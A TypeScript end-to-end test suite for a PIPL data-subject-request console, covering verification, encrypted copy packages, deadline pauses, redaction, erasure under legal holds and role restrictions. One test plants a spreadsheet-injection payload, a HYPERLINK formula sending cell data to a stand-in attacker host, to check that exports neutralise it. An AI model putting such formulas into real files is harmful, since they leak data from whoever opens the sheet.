import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { Uint8ArrayReader, Uint8ArrayWriter, ZipReader, type FileEntry } from '@zip.js/zip.js';
import Ajv2020 from 'ajv/dist/2020.js';
import { ulid } from 'ulid';
import { eq } from 'drizzle-orm';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { OutputOf } from '../../shared/contract.js';
import { dueDate, PRC_CALENDAR } from '../../shared/requests.js';
import { DEMO_ADMIN_PASSWORD, DEMO_AUDITOR_EMAIL, DEMO_COMPLIANCE_EMAIL, DEMO_ORG_ADMIN_EMAIL, DEMO_TENANT_ID } from '../../cloud/seed/demo.js';
import { startCloud, type RunningCloud } from '../../cloud/server.js';
import { writeServerFields } from '../../cloud/sync/versioning.js';
import { contact as contactTable } from '../../cloud/db/schema.js';
import { REPORT_WORDS, VOCABULARIES } from '../../electron/core/requests/report-text.js';
import { AUDIT_ACTIONS, auditActionLabel, type AuditAction } from '../../shared/audit-text.js';
import type { Core } from '../../electron/core/index.js';
import { CloudClient } from '../../electron/core/cloud/client.js';
import { call, openClient, settle, tempDir } from '../faults/harness.js';

/**
 * Data-subject requests end to end against the real cloud (PGlite): intake, verification before
 * fulfilment, discovery by every identifier form, the personal-information copy (zip opened,
 * JSON validated against its own schema, checksums checked, PDF text extracted in all three
 * languages), delivery and history; erasure refused under a hold or while employed, done
 * otherwise; other roles never receive the register.
 */
const SUBJECT = { id: 'e000031', name: '钱多多', mobile: '+86 138 0000 3131', email: 'Qian.Duoduo@Example.com', idNumber: '11010519900307313X', pinyin: 'qian duo duo' };
const COLLEAGUE = '孙同事';
const NAMESAKES = ['e000040', 'e000041', 'e000042', 'e000043'];
const OWNED = ['c0000001', 'c0000002', 'c0000003'];
let soleTraderContact = '';
let cloud: RunningCloud;
let core: Core;

const today = () => new Intl.DateTimeFormat('en-CA', { year: 'numeric', month: '2-digit', day: '2-digit' }).format(new Date());
const invoke = async (name: string, input: unknown) => core.invoke(name, input);

beforeAll(async () => {
  cloud = await startCloud({ port: 0, seed: { scale: 'S', departments: 8, employees: 60, customers: 20, approvals: 40 }, schedulerIntervalMs: 0 });
  await writeServerFields(cloud.db, DEMO_TENANT_ID, 'employee', 'e000032', { name: COLLEAGUE, pinyin: 'sun tong shi' });
  await writeServerFields(cloud.db, DEMO_TENANT_ID, 'employee', SUBJECT.id, { name: SUBJECT.name, mobile: SUBJECT.mobile, email: SUBJECT.email.toLowerCase(), idNumber: SUBJECT.idNumber, pinyin: SUBJECT.pinyin });
  // An approval of the subject's that names a colleague and a stranger's phone number: third parties.
  await writeServerFields(cloud.db, DEMO_TENANT_ID, 'approval', 'a0000001', { applicantId: SUBJECT.id, templateType: 'leave', formData: { days: 2, handoverTo: COLLEAGUE, reason: 'urgent: call my brother on 13911112222' } });
  for (const [i, id] of NAMESAKES.entries()) await writeServerFields(cloud.db, DEMO_TENANT_ID, 'employee', id, { name: '同名人', pinyin: 'tong ming ren', mobile: `+86 137 0000 000${i}` });
  // Customers the subject owns; one is a sole trader named after its contact person (someone else).
  for (const id of OWNED) await writeServerFields(cloud.db, DEMO_TENANT_ID, 'customer', id, { ownerEmployeeId: SUBJECT.id, status: 'active', industry: 'software' });
  const [soleTrader] = await cloud.db.select({ name: contactTable.name }).from(contactTable).where(eq(contactTable.customerId, OWNED[2]!)).limit(1);
  soleTraderContact = soleTrader!.name;
  await writeServerFields(cloud.db, DEMO_TENANT_ID, 'customer', OWNED[2]!, { name: `${soleTraderContact}（个体户）` });
  core = openClient(tempDir('requests'), cloud.url, null);
  await call(core, 'session.signIn', { email: DEMO_COMPLIANCE_EMAIL, password: DEMO_ADMIN_PASSWORD });
  await settle(core);
}, 120_000);
afterAll(async () => {
  await core?.close();
  await cloud?.close();
});

async function register(values: Record<string, unknown>): Promise<string> {
  const id = ulid();
  await call(core, 'request.register', {
    id,
    type: 'copy',
    subjectType: 'employee',
    subjectId: SUBJECT.id,
    identifiers: { name: SUBJECT.name, mobile: null, email: null, idNumber: null },
    language: 'zh-CN',
    channel: 'email',
    receivedOn: today(),
    regime: 'pipl_working_days',
    assigneeId: null,
    notes: '',
    ...values,
  });
  return id;
}
const detail = (id: string) => call<OutputOf<'requests.get'>>(core, 'requests.get', { id });

async function buildPackage(requestId: string, password: string | null): Promise<NonNullable<OutputOf<'requests.packageJob'>['result']>> {
  const found = await call<OutputOf<'requests.discover'>>(core, 'requests.discover', { requestId });
  const audit = await call<OutputOf<'requests.auditRecords'>>(core, 'requests.auditRecords', { requestId });
  const items = [...found.categories.flatMap((c) => c.items), ...audit.items].map((i) => ({ entity: i.entity, id: i.id, redact: true }));
  const { jobId } = await call<{ jobId: string }>(core, 'requests.buildPackage', { requestId, items, password, acknowledgeUnencrypted: password === null });
  const steps = new Set<string>();
  for (let i = 0; i < 200; i++) {
    const job = await call<OutputOf<'requests.packageJob'>>(core, 'requests.packageJob', { jobId });
    steps.add(job.step);
    if (job.state === 'failed') throw new Error(job.error ?? 'failed');
    if (job.state === 'done') {
      expect(job.done).toBe(job.total);
      return job.result!;
    }
    await new Promise((r) => setTimeout(r, 25));
  }
  throw new Error('the package did not finish');
}

async function openZip(base64: string, password?: string) {
  const reader = new ZipReader(new Uint8ArrayReader(Buffer.from(base64, 'base64')), password ? { password } : {});
  const entries = (await reader.getEntries()).filter((e): e is FileEntry => !e.directory);
  const files = new Map<string, Buffer>();
  for (const e of entries) files.set(e.filename, Buffer.from(await e.getData(new Uint8ArrayWriter())));
  return { entries, files };
}

function pdfText(pdf: Buffer): string {
  const file = join(tempDir('pdf'), 'report.pdf');
  writeFileSync(file, pdf);
  return execFileSync('pdftotext', ['-enc', 'UTF-8', file, '-'], { encoding: 'utf8' });
}

describe('data-subject requests', () => {
  it('registers a request with the PRC working-day deadline and shows it queued at once', async () => {
    const id = await register({});
    const queued = await call<OutputOf<'requests.list'>>(core, 'requests.list', { status: 'open' });
    expect(queued.rows.find((r) => r.id === id)).toMatchObject({ pending: ['request.register'], dueOn: dueDate('pipl_working_days', today(), PRC_CALENDAR) });
    await settle(core);
    const d = await detail(id);
    expect(d.request.reference).toMatch(/^DSR-\d{4}-\d{4}$/);
    expect(d.request.dueOn).toBe(dueDate('pipl_working_days', today(), PRC_CALENDAR));
    expect(d.pending).toEqual([]);
    expect(d.request.history.map((h) => h.action)).toEqual(['request.register']);
    expect(await call<OutputOf<'requests.counts'>>(core, 'requests.counts', {})).toMatchObject({ open: 1 });
  });

  it('finds the subject by mobile (+86 and local), email in any case, name, pinyin and ID number', async () => {
    for (const given of [
      { mobile: '+86 138 0000 3131' },
      { mobile: '13800003131' },
      { mobile: '+8613800003131' },
      { email: 'QIAN.DUODUO@example.COM' },
      { name: SUBJECT.name },
      { name: 'Qian Duoduo' },
      { name: 'qianduoduo' },
      { idNumber: '11010519900307313x' },
    ]) {
      const found = await call<OutputOf<'requests.discover'>>(core, 'requests.discover', given);
      expect(found.subjects.map((s) => s.id), JSON.stringify(given)).toContain(SUBJECT.id);
      expect(found.categories.find((c) => c.category === 'employee_profile')?.items.map((i) => i.id)).toContain(SUBJECT.id);
    }
    const none = await call<OutputOf<'requests.discover'>>(core, 'requests.discover', { mobile: '13999999999' });
    expect(none.subjects).toEqual([]);
  });

  it('lists namesakes as candidates without their records, and gathers the one a strong identifier finds', async () => {
    const byName = await call<OutputOf<'requests.discover'>>(core, 'requests.discover', { name: '同名人' });
    expect(byName.subjects.map((s) => s.id).sort()).toEqual(NAMESAKES);
    expect(byName.subjects.every((s) => s.candidate)).toBe(true);
    expect(byName.categories).toEqual([]);
    const narrowed = await call<OutputOf<'requests.discover'>>(core, 'requests.discover', { name: '同名人', mobile: '13700000002' });
    expect(narrowed.subjects.filter((s) => !s.candidate).map((s) => s.id)).toEqual(['e000042']);
    expect(narrowed.categories.flatMap((c) => c.items).every((i) => i.subjectId === 'e000042')).toBe(true);
    // A request matched to one of them gathers that one's records, though the name alone finds all four.
    const matched = await register({ subjectId: 'e000041', identifiers: { name: '同名人', mobile: null, email: null, idNumber: null } });
    await settle(core);
    const forRequest = await call<OutputOf<'requests.discover'>>(core, 'requests.discover', { requestId: matched });
    expect(forRequest.subjects.filter((s) => !s.candidate).map((s) => [s.id, s.matchedBy])).toEqual([['e000041', ['name', 'pinyin', 'request']]]);
    expect(forRequest.categories.find((c) => c.category === 'employee_profile')?.items.map((i) => i.id)).toEqual(['e000041']);
  });

  it('refuses to fulfil or build a copy before the requester is verified', async () => {
    const id = await register({});
    await settle(core);
    const fulfil = await invoke('request.fulfil', { id, summary: 'sent', packageSha256: null, items: 0 });
    expect(fulfil).toMatchObject({ ok: false, error: { code: 'INVALID_INPUT', issues: [{ message: 'not_verified' }] } });
    const build = await invoke('requests.buildPackage', { requestId: id, items: [{ entity: 'employee', id: SUBJECT.id, redact: true }], password: null, acknowledgeUnencrypted: true });
    expect(build).toMatchObject({ ok: false, error: { code: 'INVALID_INPUT' } });
    const unacknowledged = await invoke('requests.buildPackage', { requestId: id, items: [{ entity: 'employee', id: SUBJECT.id, redact: true }], password: null, acknowledgeUnencrypted: false });
    expect(unacknowledged).toMatchObject({ ok: false, error: { code: 'INVALID_INPUT' } });
  });

  it('builds an encrypted copy: JSON valid against its schema, checksums right, PDF readable in zh-CN, en and fr', async () => {
    const id = await register({});
    await settle(core);
    await call(core, 'request.verify', { id, method: 'id_document', evidence: 'ID card seen on video call' });
    await settle(core);
    const password = 'correct horse battery';
    const expected: Record<string, string> = { 'zh-CN': '个人信息副本', en: 'Copy of your personal information', fr: 'Copie de vos données personnelles' };
    let sha = '';
    for (const language of ['zh-CN', 'en', 'fr'] as const) {
      await call(core, 'request.update', { id, patch: { language } });
      await settle(core);
      const pkg = await buildPackage(id, password);
      expect(pkg.encrypted).toBe(true);
      sha = pkg.sha256;
      expect(createHash('sha256').update(Buffer.from(pkg.contentBase64, 'base64')).digest('hex')).toBe(pkg.sha256);
      await expect(openZip(pkg.contentBase64, 'wrong password')).rejects.toThrow();
      const { entries, files } = await openZip(pkg.contentBase64, password);
      expect(entries.every((e) => e.encrypted)).toBe(true);

      const manifest = JSON.parse(files.get('manifest.json')!.toString('utf8')) as { files: { path: string; sha256: string; bytes: number }[] };
      expect(manifest.files.map((f) => f.path).sort()).toEqual([...files.keys()].filter((f) => f !== 'manifest.json').sort());
      for (const f of manifest.files) expect(createHash('sha256').update(files.get(f.path)!).digest('hex'), f.path).toBe(f.sha256);

      const schema = JSON.parse(files.get('schema.json')!.toString('utf8')) as object;
      const data = JSON.parse(files.get('data.json')!.toString('utf8')) as { schemaVersion: number; categories: Record<string, { id: string }[]>; subjects: { id: string }[] };
      const validate = new Ajv2020({ strict: false }).compile(schema);
      expect(validate(data), JSON.stringify(validate.errors)).toBe(true);
      expect(validate({ ...data, schemaVersion: 2 })).toBe(false);
      expect(data.subjects.map((s) => s.id)).toContain(SUBJECT.id);
      expect(data.categories.employee_profile!.map((i) => i.id)).toEqual([SUBJECT.id]);
      expect(files.get('data.json')!.toString('utf8')).not.toContain(COLLEAGUE);
      // The cloud's operation log about the person: the requests registered about them, and every later step of their own requests.
      const actions = (data as unknown as { categories: Record<string, { fields: { action: string } }[]> }).categories.operation_log!.map((e) => e.fields.action);
      const said = (action: AuditAction) => auditActionLabel(action, language);
      expect(actions).toEqual(expect.arrayContaining([said('request.register'), said('request.verify'), said('request.update')]));
      expect((data as unknown as { notHeld: string[] }).notHeld).toEqual(['sign_in_log']);
      expect([...files.keys()].some((f) => f.startsWith('csv/employee_profile'))).toBe(true);
      expect(files.get('csv/employee_profile.csv')!.toString('utf8')).toContain(SUBJECT.idNumber);

      const text = pdfText(files.get('report.pdf')!);
      expect(text, language).toContain(expected[language]);
      expect(files.get('report.pdf')!.toString('latin1')).toMatch(new RegExp(`/Lang \\(${language}\\)`));
      expect(text).toContain(SUBJECT.name);
    }

    await call(core, 'request.fulfil', { id, summary: 'Copy built and sent encrypted', packageSha256: sha, items: 1 });
    await settle(core);
    await call(core, 'request.deliver', { id, method: 'email', on: today() });
    await settle(core);
    const d = await detail(id);
    expect(d.request.status).toBe('delivered');
    expect(d.request.fulfilment?.packageSha256).toBe(sha);
    expect(d.request.history.map((h) => h.action)).toEqual(['request.register', 'request.verify', 'request.update', 'request.update', 'request.update', 'request.fulfil', 'request.deliver']);
    const history = await call<OutputOf<'requests.history'>>(core, 'requests.history', { id, format: 'csv' });
    const csv = Buffer.from(history.contentBase64, 'base64').toString('utf8');
    expect(csv.split('\n').filter((l) => l.trim()).length).toBe(1 + 7);
    expect(csv).toContain('Demo Compliance Officer');
  });

  it('the copy is words and names for a person: no code, no id where a name belongs, unique CSV headers (zh-CN, en, fr; with and without a password)', async () => {
    const id = await register({});
    await settle(core);
    await call(core, 'request.verify', { id, method: 'id_document', evidence: 'ID card seen on video call' });
    await settle(core);
    // Every code a record may hold, and every id in this console (a name belongs where they would be).
    const codes = new Set<string>([...VOCABULARIES.flatMap((v) => Object.keys(REPORT_WORDS.en.vocab[v])), ...AUDIT_ACTIONS]);
    const db = core.cache.db.$client;
    const ids = new Set(
      (db.prepare("SELECT id FROM employee UNION SELECT id FROM department UNION SELECT id FROM customer UNION SELECT id FROM contact UNION SELECT id FROM approval UNION SELECT id FROM data_subject_request UNION SELECT user_id FROM admin_role_assignment").all() as { id: string }[]).map((r) => r.id),
    );
    const idToken = new RegExp(`(?<![\\w-])(${[...ids].map((i) => i.replace(/[-]/g, '\\-')).join('|')})(?![\\w-])`);
    // Words a person wrote (a follow-up, a form) are theirs as written; everything else is ours.
    const asWritten = (key: string) => key === 'content' || key.startsWith('form.');
    const writtenHeaders = (language: 'zh-CN' | 'en' | 'fr') => new Set(Object.entries(REPORT_WORDS[language].fields).filter(([k]) => asWritten(k)).map(([, label]) => label));
    const problems: string[] = [];
    const check = (where: string, value: unknown) => {
      if (typeof value !== 'string' || value === '') return;
      if (codes.has(value)) problems.push(`${where}: the code ${value}`);
      const scrubbed = value.replace(/[\w.+-]+@[\w-]+(\.[\w-]+)+/g, '');
      const code = /\b[a-z]+(_[a-z]+)+\b|\b[a-z]+\.[a-z]+[A-Z]?[a-zA-Z]*\b|\b[a-z]+[A-Z][a-zA-Z]+\b/.exec(scrubbed);
      if (code) problems.push(`${where}: the code ${code[0]} in ${value.slice(0, 80)}`);
      const anId = idToken.exec(value);
      if (anId) problems.push(`${where}: the id ${anId[0]} in ${value.slice(0, 80)}`);
    };

    for (const language of ['zh-CN', 'en', 'fr'] as const) {
      await call(core, 'request.update', { id, patch: { language } });
      await settle(core);
      for (const password of ['correct horse battery', null]) {
        const pkg = await buildPackage(id, password);
        const { files } = await openZip(pkg.contentBase64, password ?? undefined);
        const where = `${language}${password ? ' encrypted' : ''}`;

        const data = JSON.parse(files.get('data.json')!.toString('utf8')) as { request: { type: string }; categories: Record<string, { fields: Record<string, unknown> }[]> };
        check(`${where} data.json request.type`, data.request.type);
        for (const [category, items] of Object.entries(data.categories)) {
          for (const item of items) for (const [key, value] of Object.entries(item.fields)) if (!asWritten(key)) check(`${where} data.json ${category}.${key}`, value);
        }
        // The issue's case: the profile names its primary department and states purposes in words.
        const profile = data.categories.employee_profile![0]!.fields;
        expect(profile.primaryDepartment, where).toEqual(expect.any(String));
        expect(String(profile.departments)).toContain(String(profile.primaryDepartment));
        expect(data.categories.consent!.map((c) => c.fields.purpose)).toContain(REPORT_WORDS[language].vocab.purpose.sensitive_processing);

        // Owned customers: name, since when, status; the sole trader's name is someone else's and is redacted.
        const owned = data.categories.owned_customer!;
        expect(owned.map((c) => c.fields.customerStatus), where).toEqual(OWNED.map(() => REPORT_WORDS[language].vocab.customerStatus.active));
        expect(owned.every((c) => typeof c.fields.ownerSince === 'string')).toBe(true);
        expect(JSON.stringify(owned)).not.toContain(soleTraderContact);
        expect(owned.map((c) => c.fields.customer)).toContain('[…]（个体户）');

        const csvs = [...files.keys()].filter((f) => f.startsWith('csv/'));
        expect(csvs.length).toBe(Object.keys(data.categories).length);
        for (const file of csvs) {
          const parsed = Papa.parse<string[]>(files.get(file)!.toString('utf8').replace(/^\ufeff/, ''), { skipEmptyLines: true });
          const [header, ...rows] = parsed.data;
          expect(new Set(header).size, `${where} ${file} headers ${header!.join(',')}`).toBe(header!.length);
          for (const h of header!) check(`${where} ${file} header`, h);
          // The first column is the record's own id, which is where an id belongs.
          for (const row of rows) row.slice(1).forEach((cell, i) => !writtenHeaders(language).has(header![i + 1]!) && check(`${where} ${file} ${header![i + 1]}`, cell));
        }

        const text = pdfText(files.get('report.pdf')!);
        // Free text the person wrote is in the PDF too: check the lines that are ours (labels and values).
        for (const line of text.split('\n')) if (!/^(内容|Content|Contenu|事由|Reason|Motif|说明|Description)\s?:/.test(line.trim())) check(`${where} report.pdf`, line);
        expect(text).toContain(REPORT_WORDS[language].vocab.purpose.sensitive_processing);
        expect(text).toContain(REPORT_WORDS[language].categories.owned_customer);
      }
    }
    expect(problems).toEqual([]);
  });

  it('the copy’s CSVs and the request history neutralise spreadsheet formulas (issue 28 item 8)', async () => {
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"open")';
    await writeServerFields(cloud.db, DEMO_TENANT_ID, 'employee', SUBJECT.id, { address: formula, title: '@SUM(1+1)' });
    await settle(core);
    const id = await register({});
    await settle(core);
    await call(core, 'request.verify', { id, method: 'id_document', evidence: '+1 ID card seen' });
    await settle(core);
    const pkg = await buildPackage(id, null);
    const { files } = await openZip(pkg.contentBase64);
    const cells = Papa.parse<string[]>(files.get('csv/employee_profile.csv')!.toString('utf8').replace(/^\ufeff/, '')).data.flat();
    expect(cells).toContain(`'${formula}`);
    expect(cells).toContain("'@SUM(1+1)");
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    const history = Buffer.from((await call<OutputOf<'requests.history'>>(core, 'requests.history', { id, format: 'csv' })).contentBase64, 'base64').toString('utf8');
    const historyCells = Papa.parse<string[]>(history.replace(/^\ufeff/, '')).data.flat();
    expect(historyCells.length).toBeGreaterThan(5);
    expect(historyCells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    await writeServerFields(cloud.db, DEMO_TENANT_ID, 'employee', SUBJECT.id, { address: null, title: null });
    await settle(core);
  });

  it('pauses the deadline while waiting for the requester and moves it by the working days paused, across a holiday', async () => {
    // Received Mon 21 Sep 2026 under PIPL: due Mon 19 Oct. Asked for proof of identity on Tue 29 Sep,
    // received it Fri 9 Oct: 30 Sep, 8 and 9 Oct are the working days paused (National Day 1–7 Oct).
    const id = await register({ receivedOn: '2026-09-21' });
    await settle(core);
    expect((await detail(id)).request.dueOn).toBe('2026-10-19');
    await call(core, 'request.pause', { id, reason: 'identity_proof', note: 'Asked for a copy of the ID card by email', from: '2026-09-29' });
    await settle(core);
    const paused = await detail(id);
    expect(paused.pause).toEqual({ since: '2026-09-29', reason: 'identity_proof' });
    expect((await call<OutputOf<'requests.list'>>(core, 'requests.list', { status: 'open' })).rows.find((r) => r.id === id)?.pausedSince).toBe('2026-09-29');

    // Refused by the console at once: a second pause, and steps that need a running clock.
    expect(await invoke('request.pause', { id, reason: 'clarification', note: 'again', from: '2026-09-30' })).toMatchObject({ ok: false, error: { code: 'INVALID_INPUT', issues: [{ message: 'already_paused' }] } });
    expect(await invoke('request.extend', { id, extendedDueOn: '2026-11-02', reason: 'complex request' })).toMatchObject({ ok: false, error: { issues: [{ message: 'paused' }] } });
    // And by the cloud on its own state (a command pushed past this console's checks).
    const client = new CloudClient(cloud.url);
    const { accessToken } = await client.signIn(DEMO_COMPLIANCE_EMAIL, DEMO_ADMIN_PASSWORD);
    const pushed = await client.push(accessToken, ulid(), [{ id: ulid(), name: 'request.pause', args: { id, reason: 'clarification', note: 'again', from: '2026-09-30' }, baseVersion: 0 }]);
    expect(pushed.results[0]).toMatchObject({ status: 'rejected', reason: 'invalid', message: 'The deadline is already paused.' });

    await call(core, 'request.resume', { id, on: '2026-10-09' });
    await settle(core);
    const resumed = await detail(id);
    expect(resumed.pause).toBeNull();
    expect(resumed.request.dueOn).toBe('2026-10-22');
    expect(resumed.pauses).toEqual([{ from: '2026-09-29', to: '2026-10-09', reason: 'identity_proof', days: 3 }]);
    expect(resumed.request.history.map((h) => h.action)).toEqual(['request.register', 'request.pause', 'request.resume']);
    expect(await invoke('request.resume', { id, on: '2026-10-09' })).toMatchObject({ ok: false, error: { issues: [{ message: 'not_paused' }] } });
    const again = await client.push(accessToken, ulid(), [{ id: ulid(), name: 'request.resume', args: { id, on: '2026-10-12' }, baseVersion: 0 }]);
    expect(again.results[0]).toMatchObject({ status: 'rejected', message: 'The deadline is not paused.' });

    // The regulator's export shows the pause; the audit chain keeps its codes and dates, not the note.
    const csv = Buffer.from((await call<OutputOf<'requests.history'>>(core, 'requests.history', { id, format: 'csv' })).contentBase64, 'base64').toString('utf8');
    expect(csv).toContain('request.pause');
    expect(csv).toContain('Asked for a copy of the ID card by email');
    const json = JSON.parse(Buffer.from((await call<OutputOf<'requests.history'>>(core, 'requests.history', { id, format: 'json' })).contentBase64, 'base64').toString('utf8')) as { pauses: unknown[]; request: { dueOn: string } };
    expect(json.pauses).toEqual([{ from: '2026-09-29', to: '2026-10-09', reason: 'identity_proof', days: 3 }]);
    expect(json.request.dueOn).toBe('2026-10-22');
    const audit = await client.subjectAudit(accessToken, 'employee', SUBJECT.id);
    const pause = audit.events.find((e) => e.action === 'request.pause' && e.targetId === id);
    expect(pause?.details).toMatchObject({ reason: 'identity_proof', from: '2026-09-29' });
    expect(JSON.stringify(pause?.details)).not.toContain('ID card');
  });

  it('redacts other people named in approvals by default, and keeps the subject', async () => {
    const found = await call<OutputOf<'requests.discover'>>(core, 'requests.discover', { name: SUBJECT.name });
    const approval = found.categories.find((c) => c.category === 'approval')?.items.find((i) => i.id === 'a0000001');
    expect(approval).toBeDefined();
    expect(approval!.thirdParty).toBe(true);
    expect(approval!.fields['form.handoverTo']).toBe(COLLEAGUE);
    expect(JSON.stringify(approval!.redacted)).not.toContain(COLLEAGUE);
    expect(JSON.stringify(approval!.redacted)).not.toContain('13911112222');
    expect(approval!.redacted['form.days']).toBe(2);
    // The subject's own profile is never redacted.
    const profile = found.categories.find((c) => c.category === 'employee_profile')!.items[0]!;
    expect(profile.thirdParty).toBe(false);
    expect(profile.redacted.mobile).toBe(SUBJECT.mobile);
  });

  it('erases only what no hold or floor protects, and says why otherwise', async () => {
    // An active employee: refused, still employed.
    const employed = await register({ type: 'deletion' });
    await settle(core);
    await call(core, 'request.verify', { id: employed, method: 'id_document', evidence: 'badge checked' });
    await settle(core);
    expect((await detail(employed)).erasureBlockers).toEqual([{ code: 'still_employed' }]);
    expect(await invoke('subject.erase', { id: employed, subjectType: 'employee', subjectId: SUBJECT.id })).toMatchObject({ ok: false, error: { issues: [{ message: 'still_employed' }] } });

    // A contact under a legal hold: refused; once released: erased, and no longer found.
    const contactRow = core.cache.db.$client.prepare('SELECT id, name, mobile, email FROM contact WHERE mobile IS NOT NULL AND email IS NOT NULL LIMIT 1').get() as { id: string; name: string; mobile: string; email: string };
    const req = await register({ type: 'deletion', subjectType: 'contact', subjectId: contactRow.id, identifiers: { name: null, mobile: contactRow.mobile, email: null, idNumber: null } });
    const holdId = ulid();
    await call(core, 'legalHold.place', { id: holdId, subjectType: 'contact', subjectId: contactRow.id, reason: 'litigation pending' });
    await settle(core);
    await call(core, 'request.verify', { id: req, method: 'known_contact_details', evidence: 'called back on the number on file' });
    await settle(core);
    expect((await detail(req)).erasureBlockers).toEqual([{ code: 'legal_hold' }]);
    expect(await invoke('subject.erase', { id: req, subjectType: 'contact', subjectId: contactRow.id })).toMatchObject({ ok: false });
    await call(core, 'legalHold.release', { id: holdId, reason: 'case closed' });
    await settle(core);
    expect((await detail(req)).erasureBlockers).toEqual([]);
    await call(core, 'subject.erase', { id: req, subjectType: 'contact', subjectId: contactRow.id });
    expect(await settle(core)).toMatchObject({ queued: 0, issues: 0 });
    for (const given of [{ mobile: contactRow.mobile }, { email: contactRow.email }, { name: contactRow.name }]) {
      const found = await call<OutputOf<'requests.discover'>>(core, 'requests.discover', given);
      expect(found.subjects.map((s) => s.id)).not.toContain(contactRow.id);
    }
    expect((await detail(req)).request.history.map((h) => h.action)).toContain('subject.erase');
  });

  it('records a consent withdrawal as new records, keeping the old ones as proof', async () => {
    const consent = core.cache.db.$client.prepare("SELECT id, subject_id AS subjectId, purpose FROM consent_record WHERE subject_type = 'contact' AND granted = 1 LIMIT 1").get() as { id: string; subjectId: string; purpose: string };
    const id = await register({ type: 'consent_withdrawal', subjectType: 'contact', subjectId: consent.subjectId, identifiers: { name: null, mobile: null, email: null, idNumber: null } });
    await settle(core);
    expect(await invoke('consent.withdraw', { id, consentIds: [consent.id] })).toMatchObject({ ok: false, error: { issues: [{ message: 'not_verified' }] } });
    await call(core, 'request.verify', { id, method: 'account_sign_in', evidence: 'withdrew from the customer portal' });
    await settle(core);
    expect((await detail(id)).consents.map((c) => c.id)).toContain(consent.id);
    await call(core, 'consent.withdraw', { id, consentIds: [consent.id] });
    expect(await settle(core)).toMatchObject({ queued: 0, issues: 0 });
    expect((await detail(id)).consents.map((c) => c.purpose)).not.toContain(consent.purpose);
    const rows = core.cache.db.$client.prepare('SELECT granted FROM consent_record WHERE subject_id = ? AND purpose = ? ORDER BY at').all(consent.subjectId, consent.purpose) as { granted: number }[];
    expect(rows.map((r) => r.granted)).toEqual(expect.arrayContaining([1, 0]));
  });

  it('never sends the register to org admins or auditors, and refuses them the operations', async () => {
    for (const email of [DEMO_ORG_ADMIN_EMAIL, DEMO_AUDITOR_EMAIL]) {
      const other = openClient(tempDir('requests-other'), cloud.url, null);
      try {
        await call(other, 'session.signIn', { email, password: DEMO_ADMIN_PASSWORD });
        await settle(other);
        expect(other.cache.db.$client.prepare('SELECT count(*) AS n FROM data_subject_request').get(), email).toEqual({ n: 0 });
        expect(await other.invoke('requests.list', { status: 'all' })).toMatchObject({ ok: false, error: { code: 'FORBIDDEN' } });
      } finally {
        await other.close();
      }
    }
    expect(core.cache.db.$client.prepare('SELECT count(*) AS n FROM data_subject_request').get()).not.toEqual({ n: 0 });
    // The cloud refuses the operation log about a person to anyone but the compliance roles.
    const client = new CloudClient(cloud.url);
    for (const email of [DEMO_ORG_ADMIN_EMAIL, DEMO_AUDITOR_EMAIL]) {
      const { accessToken } = await client.signIn(email, DEMO_ADMIN_PASSWORD);
      await expect(client.subjectAudit(accessToken, 'employee', SUBJECT.id)).rejects.toMatchObject({ code: 'FORBIDDEN' });
    }
    const { accessToken } = await client.signIn(DEMO_COMPLIANCE_EMAIL, DEMO_ADMIN_PASSWORD);
    expect((await client.subjectAudit(accessToken, 'employee', SUBJECT.id)).events.length).toBeGreaterThan(0);
  });
});
